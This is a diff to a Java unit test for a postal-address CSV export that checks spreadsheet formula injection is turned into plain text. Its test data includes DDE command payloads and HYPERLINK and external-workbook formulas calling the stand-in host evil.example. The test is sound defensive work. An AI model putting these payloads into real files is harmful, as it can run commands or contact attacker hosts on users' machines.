@@ -12,6 +12,8 @@ import java.util.Map;
 import java.util.TreeSet;
 import java.util.UUID;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.tocsin.affected.Person;
 import org.tocsin.affected.Relationship;
 
@@ -19,7 +21,7 @@ import org.tocsin.affected.Relationship;
 class LetterCsvTest {
 
     @Test
-    void whatIsTextComesBackAndWhatASpreadsheetWouldCalculateIsMadeText() throws IOException {
+    void whatIsTextComesBackAndWhatWouldActInASpreadsheetIsMadeText() throws IOException {
         Person person = person(
                 "=HYPERLINK(\"http://evil.example\")", List.of("12, \"Elm\" Street", "Flat 4"), "Springfield", "01234");
 
@@ -34,6 +36,46 @@ class LetterCsvTest {
         assertThat(line.getField("postalAddress3")).isEmpty();
         assertThat(line.getField("postcode")).isEqualTo("01234");
         assertThat(line.getField("mailable")).isEqualTo("yes");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "=Box 12",
+                "+12 Elm Street",
+                "-3 Mill Lane",
+                "@Home, Elm Street",
+                "- c/o Smith",
+                "=1+2",
+                "\uFF0B12 Elm Street",
+                "12 Elm Street (rear)",
+                "Flat #4!",
+                "'t Hof 3"
+            })
+    void anAddressIsPrintedAsItWasRecorded(String line) throws IOException {
+        assertThat(printed(line, FileForm.AS_RECORDED)).isEqualTo(line);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "=HYPERLINK(\"http://evil.example\")",
+                "@SUM(1)",
+                "+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0",
+                "='[http://evil.example/a.xlsx]S'!A1",
+                "='http://evil.example/a.ods'#$a.A1",
+                "\t=HYPERLINK(\"http://evil.example\")",
+                "\uFF1DHYPERLINK\uFF08\"http://evil.example\")"
+            })
+    void aFormulaThatCouldDoSomethingIsMadeText(String line) throws IOException {
+        assertThat(printed(line, FileForm.AS_RECORDED)).isEqualTo("'" + line);
+    }
+
+    @Test
+    void exportsOfBeforeAreWrittenAsTheyWere() throws IOException {
+        assertThat(printed("=Box 12", FileForm.of(1))).isEqualTo("'=Box 12");
+        assertThat(printed("12 Elm Street", FileForm.of(1))).isEqualTo("12 Elm Street");
     }
 
     @Test
@@ -61,9 +103,18 @@ class LetterCsvTest {
                 .isFalse();
     }
 
+    private static String printed(String line, FileForm form) throws IOException {
+        return written(person("Ana Example", List.of(line), "Springfield", "01234"), form)
+                .getField("postalAddress1");
+    }
+
     private static NamedCsvRecord written(Person person) throws IOException {
+        return written(person, FileForm.AS_RECORDED);
+    }
+
+    private static NamedCsvRecord written(Person person, FileForm form) throws IOException {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
-        LetterCsv csv = new LetterCsv(out);
+        LetterCsv csv = new LetterCsv(out, form);
         csv.write(new Recipient(7, UUID.randomUUID(), "C-7", "8F3KQ-7T2MX", "NO_USABLE_CONTACT"), person);
         csv.flush();
         return CsvReader.builder().ofNamedCsvRecord(out.toString(StandardCharsets.UTF_8)).stream()
